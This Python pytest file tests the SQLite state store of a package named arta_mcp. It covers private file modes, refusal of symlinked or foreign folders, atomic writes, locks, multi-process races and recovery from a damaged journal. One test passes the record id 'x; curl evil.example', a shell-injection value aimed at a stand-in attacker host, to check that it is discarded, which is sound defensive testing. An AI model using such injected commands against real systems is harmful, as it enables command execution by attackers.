from __future__ import annotations

import errno
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
from collections.abc import AsyncGenerator, Callable, Coroutine, Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import anyio
import anyio.to_thread
import pytest

from arta_mcp.arta.account import Account
from arta_mcp.arta.protocol import Tokens
from arta_mcp.errors import ArtaError, ConfigError, Unavailable
from arta_mcp.files import make_private_folder, write_atomically
from arta_mcp.redaction import Secret
from arta_mcp.state.records import Begun, JournalEntry, StyleList
from arta_mcp.state.sqlite import SqliteState
from harness.world import opened_state as opened

pytestmark = pytest.mark.anyio

NOW = 1_000_000.0
OURS = ("a.example", "")
ACCOUNT = Account(Secret("id-token-1"), Secret("refresh-token-1"), NOW, NOW + 3600, "user-1")
JOURNAL = "generations.sqlite3"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "state"


@pytest.fixture
async def state(folder: Path) -> AsyncGenerator[SqliteState]:
    async with opened(folder) as state:
        yield state


@pytest.fixture
def nothing_masked() -> Iterator[None]:
    """No mode is taken away by the process, so that ours alone count."""
    before = os.umask(0)
    yield
    os.umask(before)


async def begin(
    state: SqliteState,
    key: str | None = None,
    *,
    now: float = NOW,
    service: str = "a.example",
    fingerprint: str = "f1",
) -> tuple[JournalEntry, bool]:
    entry = JournalEntry(
        service=service,
        key=key,
        fingerprint=fingerprint,
        request='{"prompt": "a fox"}',
        style="Flux",
        phase="intended",
        created_at=now,
        answered_at=now,
    )
    begun = await state.begin(entry, is_waiting=lambda token: False)
    assert isinstance(begun, Begun)
    return begun.entry, begun.is_ours


async def entry_with(state: SqliteState, entry_id: str) -> JournalEntry | None:
    found = [entry for entry in await state.latest(*OURS, 999) if entry.id == entry_id]
    return found[0] if found else None


async def submitted(state: SqliteState, record_id: str, key: str | None = None) -> JournalEntry:
    entry, _ = await begin(state, key)
    entry = replace(entry, phase="submitted", record_id=record_id, submitted_at=NOW + 1)
    return await written(state, entry)


async def written(state: SqliteState, entry: JournalEntry) -> JournalEntry:
    found = await state.write(entry)
    assert found is not None
    return found


def modes(folder: Path) -> dict[str, str]:
    return {path.name: oct(stat.S_IMODE(path.lstat().st_mode)) for path in folder.iterdir()}


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def make_open(folder: Path) -> None:
    folder.mkdir(mode=0o755)


def named(folder: Path, pattern: str) -> list[Path]:
    return sorted(folder.glob(pattern))


def process(*arguments: str) -> subprocess.Popen[bytes]:
    """A Python of its own that is spoken to by its stdin and stdout."""
    command = [sys.executable, "-c", *arguments]
    return subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)


async def at_once(count: int, work: Callable[[int], Coroutine[object, object, None]]) -> None:
    with anyio.fail_after(20):
        async with anyio.create_task_group() as tasks:
            for number in range(count):
                tasks.start_soon(work, number)


# The folder and its files


async def test_nothing_is_touched_before_the_first_call(folder: Path) -> None:
    async with opened(folder):
        assert named(folder.parent, "*") == []


@pytest.mark.usefixtures("nothing_masked")
async def test_every_file_is_its_owners_alone_whatever_the_umask(folder: Path) -> None:
    async with opened(folder) as state:
        await state.keep_account("test", ACCOUNT, fence=0)
        await state.keep_styles("a.example", StyleList(("Flux",), NOW))
        await begin(state)
        async with state.lock("account-test"):
            found = modes(folder)
            assert set(modes(folder / "processes").values()) == {"0o600"}
    assert mode(folder) == 0o700
    assert found.pop("processes") == "0o700"
    assert set(found) >= {"account-test.json", "account-test.lock", JOURNAL, f"{JOURNAL}-wal"}
    assert set(found.values()) == {"0o600"}


@pytest.mark.usefixtures("nothing_masked")
async def test_a_file_is_its_owners_alone_from_its_first_byte(folder: Path) -> None:
    make_private_folder(folder)
    seen: set[str] = set()
    over = threading.Event()

    def watch() -> None:
        while not over.is_set():
            for entry in os.scandir(folder):
                try:
                    seen.add(oct(stat.S_IMODE(entry.stat(follow_symlinks=False).st_mode)))
                except FileNotFoundError:
                    continue

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        for number in range(150):
            write_atomically(folder / f"file-{number % 3}", b"x" * 10_000)
    finally:
        over.set()
        watcher.join()
    assert seen == {"0o600"}


async def test_a_token_is_read_while_the_journal_is_busy_in_its_thread(
    state: SqliteState,
) -> None:
    await state.keep_account("test", ACCOUNT, fence=0)
    await begin(state)
    is_busy, may_end = threading.Event(), threading.Event()

    def work(_: object) -> None:
        is_busy.set()
        may_end.wait(30)

    async with anyio.create_task_group() as group:
        group.start_soon(state._read_journal, work)  # pyright: ignore[reportPrivateUsage]  # no public call is slow at will
        await anyio.to_thread.run_sync(is_busy.wait)
        try:
            with anyio.fail_after(10):
                assert await state.account("test") == ACCOUNT
        finally:
            may_end.set()


async def test_an_open_folder_of_ours_is_closed_to_others(folder: Path) -> None:
    make_open(folder)
    async with opened(folder) as state:
        await state.keep_account("test", ACCOUNT, fence=0)
    assert mode(folder) == 0o700


@pytest.mark.parametrize("use", ["account", "journal", "lock"])
async def test_a_link_in_place_of_the_folder_is_refused(tmp_path: Path, use: str) -> None:
    (tmp_path / "elsewhere").mkdir(mode=0o700)
    (tmp_path / "state").symlink_to(tmp_path / "elsewhere")
    async with opened(tmp_path / "state") as state:
        calls = {
            "account": lambda: state.keep_account("test", ACCOUNT, fence=0),
            "journal": lambda: begin(state),
            "lock": lambda: state.lock("test").__aenter__(),
        }
        with pytest.raises(ConfigError, match="is a link or no folder") as caught:
            await calls[use]()
    assert caught.value.hint == "set ARTA_STATE_DIR elsewhere"
    assert list((tmp_path / "elsewhere").iterdir()) == []


async def test_a_dangling_link_or_a_file_in_place_of_the_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    (tmp_path / "file").write_text("mine", encoding="utf-8")
    for name in ("link", "file"):
        async with opened(tmp_path / name) as state:
            with pytest.raises(ConfigError, match="is a link or no folder"):
                await state.account("test")
    assert not (tmp_path / "nowhere").exists()


async def test_the_folder_of_another_user_is_refused_and_left_as_it_is(tmp_path: Path) -> None:
    foreign = tmp_path / "foreign"
    if os.getuid() == 0:
        foreign.mkdir(mode=0o755)
        os.chown(foreign, 12345, 12345)
    else:
        foreign = Path("/usr")
    before = foreign.stat()
    async with opened(foreign) as state:
        with pytest.raises(ConfigError, match="belongs to another user"):
            await state.account("test")
    assert (before.st_mode, before.st_uid) == (foreign.stat().st_mode, foreign.stat().st_uid)


async def test_a_folder_that_cannot_be_made_is_said_with_its_reason(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("", encoding="utf-8")
    async with opened(tmp_path / "file" / "state") as state:
        for call in (
            state.account("test"),
            begin(state),
            state.keep_account("test", ACCOUNT, fence=0),
        ):
            with pytest.raises(Unavailable, match="cannot be used: ") as caught:
                await call
            assert "ARTA_STATE_DIR" in caught.value.hint


# The account


async def test_a_reader_sees_the_old_account_or_the_new_and_nothing_between(
    state: SqliteState, folder: Path
) -> None:
    accounts = [replace(ACCOUNT, user_id=str(number) * 2000) for number in range(10)]
    await state.keep_account("test", accounts[0], fence=0)
    found: list[Account | None] = []
    over = anyio.Event()

    async def read() -> None:
        async with opened(folder) as other:
            while not over.is_set():
                found.append(await other.account("test"))

    with anyio.fail_after(20):
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(read)
            for number in range(150):
                await state.keep_account("test", accounts[number % 10], fence=0)
            over.set()
    assert len(found) > 10
    assert [account for account in found if account not in accounts] == []


async def test_a_write_that_fails_leaves_what_was_there_and_no_draft(
    state: SqliteState, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await state.keep_account("test", ACCOUNT, fence=0)

    def disk_full(handle: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(Unavailable, match="No space left on device"):
        await state.keep_account("test", replace(ACCOUNT, user_id="user-2"), fence=0)
    assert await state.account("test") == ACCOUNT
    assert sorted(modes(folder)) == ["account-test.json"]


async def test_drafts_of_a_killed_process_are_swept_away(state: SqliteState, folder: Path) -> None:
    await state.keep_account("test", ACCOUNT, fence=0)
    (folder / ".account-test.json.99999.123").write_bytes(b"half")
    await state.keep_account("test", ACCOUNT, fence=0)
    assert sorted(modes(folder)) == ["account-test.json"]


async def test_a_folder_in_place_of_the_token_file_is_an_error_and_no_crash(
    state: SqliteState, folder: Path
) -> None:
    make_private_folder(folder)
    (folder / "account-test.json").mkdir()
    with pytest.raises(Unavailable, match="cannot be used"):
        await state.account("test")


def test_a_refresh_keeps_what_it_does_not_bring() -> None:
    tokens = Tokens(Secret("id-token-2"), Secret(""), 100.0)
    renewed = Account.from_tokens(tokens, now=NOW + 1, before=ACCOUNT)
    assert renewed == Account(
        Secret("id-token-2"), ACCOUNT.refresh_token, NOW + 1, NOW + 101, "user-1"
    )


@pytest.mark.parametrize(
    ("age", "fresh"), [(-61, False), (-60, True), (0, True), (3299, True), (3300, False)]
)
def test_a_token_is_fresh_until_it_is_due_and_stale_when_the_clock_went_back(
    age: float, fresh: bool
) -> None:
    assert ACCOUNT.is_fresh(NOW + age) is fresh


@pytest.mark.parametrize(
    "content", [b"", b"[]", b'{"names": []}', b'{"names": ["a"], "listed_at": 1%s}' % (b"0" * 400)]
)
async def test_a_damaged_style_list_is_the_same_as_none(
    state: SqliteState, folder: Path, content: bytes
) -> None:
    await state.keep_styles("A.example:1", StyleList(("Flux", "F Dev"), NOW))
    assert await state.styles("a.example:1") == StyleList(("Flux", "F Dev"), NOW)
    (path,) = named(folder, "styles-*")
    path.write_bytes(content)
    assert await state.styles("a.example:1") is None


# Locks


HOLD = """
import sys, time
from filelock import FileLock
with FileLock(sys.argv[1]):
    print("held", flush=True)
    sys.stdin.read()
"""


async def test_a_lock_whose_holder_is_killed_is_free(state: SqliteState, folder: Path) -> None:
    make_private_folder(folder)
    with process(HOLD, str(folder / "test.lock")) as holder:
        assert holder.stdout is not None
        assert await anyio.to_thread.run_sync(holder.stdout.readline) == b"held\n"
        with anyio.move_on_after(0.05) as scope:
            await state.lock("test").__aenter__()
        assert scope.cancelled_caught
        holder.send_signal(signal.SIGKILL)
        with anyio.fail_after(5):
            async with state.lock("test"):
                pass


# The journal


# Many at once


async def test_what_an_earlier_version_took_for_an_id_is_read_as_none(state: SqliteState) -> None:
    await submitted(state, "x; curl evil.example")
    await submitted(state, "rec-1")
    assert [entry.record_id for entry in await state.latest(*OURS, 9)] == ["rec-1", None]


async def test_whoever_looks_for_a_key_waits_for_a_write_that_is_under_way(folder: Path) -> None:
    found: list[tuple[JournalEntry, bool]] = []
    done = anyio.Event()
    async with opened(folder) as state:
        first, _ = await begin(state, "key-1")

        async def look() -> None:
            found.append(await begin(state, "key-2"))
            done.set()

        with closing(sqlite3.connect(folder / JOURNAL, isolation_level=None)) as other:
            other.execute("BEGIN IMMEDIATE")
            async with anyio.create_task_group() as tasks:
                tasks.start_soon(look)
                with anyio.move_on_after(0.1):
                    await done.wait()
                assert found == []
                other.execute("UPDATE journal SET key = 'key-2'")
                other.execute("COMMIT")
                with anyio.fail_after(5):
                    await done.wait()
    assert found == [(replace(first, key="key-2"), False)]


MAKE = """
import sys, anyio
from dataclasses import replace
from pathlib import Path
from arta_mcp.state.records import JournalEntry
from arta_mcp.state.sqlite import SqliteState

async def main():
    state = SqliteState(Path(sys.argv[1]))
    print("ready", flush=True)
    sys.stdin.readline()
    for number in range(100):
        begun = await state.begin(JournalEntry(service="a", key=f"key-{number}",
            fingerprint="f", request="{}", style="Flux", phase="intended", created_at=1.0,
            answered_at=1.0), is_waiting=lambda token: False)
        if begun.is_ours:
            await state.write(replace(begun.entry, phase="submitted", record_id=f"r{number}"))
            print(number, flush=True)
    await state.close()

anyio.run(main)
"""


async def test_of_many_processes_with_one_key_one_sends(folder: Path) -> None:
    makers = [process(MAKE, str(folder)) for _ in range(4)]
    for maker in makers:
        assert maker.stdout is not None
        assert await anyio.to_thread.run_sync(maker.stdout.readline) == b"ready\n"
    for maker in makers:
        assert maker.stdin is not None
        maker.stdin.write(b"\n")
        maker.stdin.flush()
    said: list[bytes] = []
    for maker in makers:
        output, _ = await anyio.to_thread.run_sync(maker.communicate)
        said += output.split()
    assert [maker.returncode for maker in makers] == [0] * 4
    assert sorted(map(int, said)) == list(range(100))


# Damage


def text_file(path: Path) -> None:
    path.write_bytes(b"this is no journal\n" * 1000)


def half(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def zeroed_pages(path: Path) -> None:
    content = path.read_bytes()
    path.write_bytes(content[:4096] + b"\0" * (len(content) - 4096))


def other_bytes(path: Path) -> None:
    content = bytearray(path.read_bytes())
    for place in range(4096, len(content), 97):
        content[place] ^= 0xFF
    path.write_bytes(bytes(content))


@pytest.mark.parametrize("damage", [text_file, half, zeroed_pages, other_bytes])
async def test_a_damaged_journal_is_moved_aside_whole_and_a_new_one_begun(
    folder: Path, damage: Callable[[Path], None]
) -> None:
    async with opened(folder) as state:
        for number in range(50):
            await submitted(state, f"r{number}")
    journal = folder / JOURNAL
    damage(journal)
    damaged = journal.read_bytes()
    warnings: list[str] = []
    async with opened(folder, warnings.append) as state:
        assert await state.latest(*OURS, 9) == ()
        await submitted(state, "r1")
        assert len(await state.latest(*OURS, 9)) == 1
    (aside,) = named(folder, f"{JOURNAL}.damaged-*")
    assert aside.read_bytes() == damaged
    assert mode(aside) == 0o600
    assert len(warnings) == 1
    assert str(aside) in warnings[0]


async def test_what_belongs_to_a_damaged_journal_is_moved_with_it(folder: Path) -> None:
    make_private_folder(folder)
    for suffix in ("", "-wal", "-shm"):
        (folder / f"{JOURNAL}{suffix}").write_bytes(b"not a database " * 500)
    async with opened(folder, lambda line: None) as state:
        await begin(state)
    aside, *rest = named(folder, f"{JOURNAL}.damaged-*")
    assert aside.read_bytes() == b"not a database " * 500
    assert not (folder / f"{JOURNAL}-wal").exists()
    assert {path.name.removeprefix(aside.name) for path in rest} <= {"-wal", "-shm"}


async def test_two_that_open_a_damaged_journal_move_it_aside_once(folder: Path) -> None:
    make_private_folder(folder)
    text_file(folder / JOURNAL)
    warnings: list[str] = []
    async with opened(folder, warnings.append) as one, opened(folder, warnings.append) as two:

        async def work(number: int) -> None:
            await submitted((one, two)[number % 2], f"r{number}")

        await at_once(6, work)
        assert len(await one.latest(*OURS, 99)) == len(await two.latest(*OURS, 99)) == 6
    assert len(named(folder, f"{JOURNAL}.damaged-*")) == len(warnings) == 1


async def test_journals_damaged_in_the_same_second_are_all_kept(folder: Path) -> None:
    for count in (1, 2, 3):
        make_private_folder(folder)
        text_file(folder / JOURNAL)
        async with opened(folder, lambda line: None) as state:
            await begin(state)
        assert len(named(folder, f"{JOURNAL}.damaged-*")) == count


async def test_damage_that_shows_while_the_journal_is_open_costs_no_call(folder: Path) -> None:
    async with opened(folder) as state:
        for number in range(200):
            await submitted(state, f"r{number}")
    warnings: list[str] = []
    async with opened(folder, warnings.append) as state:
        assert await state.find("a.example", "", "r1")
        with closing(sqlite3.connect(folder / JOURNAL)) as db:
            db.execute("UPDATE journal SET error = 'x'")  # makes the other connection read anew
            db.commit()
            zeroed_pages(folder / JOURNAL)
        assert await state.latest(*OURS, 999) == ()
        await submitted(state, "r1")
    assert len(warnings) == 1


async def test_the_first_call_reads_its_own_pages_and_damage_elsewhere_waits_for_who_meets_it(
    folder: Path,
) -> None:
    async with opened(folder) as state:
        for number in range(300):
            await submitted(state, f"r{number}")
    content = (folder / JOURNAL).read_bytes()
    pages = [content[at : at + 4096] for at in range(0, len(content), 4096)]
    with_rows = [number for number, page in enumerate(pages) if b'"a fox"' in page]
    pages[with_rows[len(with_rows) // 2]] = b"\0" * 4096  # none of the newest rows
    (folder / JOURNAL).write_bytes(b"".join(pages))
    warnings: list[str] = []
    async with opened(folder, warnings.append) as state:
        assert len(await state.latest(*OURS, 9)) == 9
        await submitted(state, "r300")
        (check,) = [one for one in (await state.describe("x")).checks if one.name == "journal"]
        assert (check.status, "is damaged" in check.detail) == ("warn", True)
    assert warnings == []
    async with opened(folder, warnings.append) as state:
        assert await state.latest(*OURS, 999) == ()
        assert len(warnings) == len(named(folder, f"{JOURNAL}.damaged-*")) == 1


async def test_a_database_of_another_program_is_left_as_it_is(folder: Path) -> None:
    make_private_folder(folder)
    with closing(sqlite3.connect(folder / JOURNAL)) as db:
        db.execute("CREATE TABLE generations (mine TEXT)")
        db.commit()
    async with opened(folder) as state:
        with pytest.raises(Unavailable, match="the journal cannot be opened") as caught:
            await begin(state)
    assert str(folder / JOURNAL) in caught.value.hint
    assert named(folder, "*.damaged-*") == []
    with closing(sqlite3.connect(folder / JOURNAL)) as db:
        assert db.execute("SELECT * FROM generations").fetchall() == []


async def test_a_journal_that_is_a_folder_is_an_error_and_no_crash(folder: Path) -> None:
    make_private_folder(folder)
    (folder / JOURNAL).mkdir()
    async with opened(folder) as state:
        with pytest.raises(ArtaError, match="cannot be used"):
            await begin(state)


def test_state_is_opened_by_its_folder(folder: Path) -> None:
    assert isinstance(SqliteState(folder), SqliteState)
    assert not folder.exists()
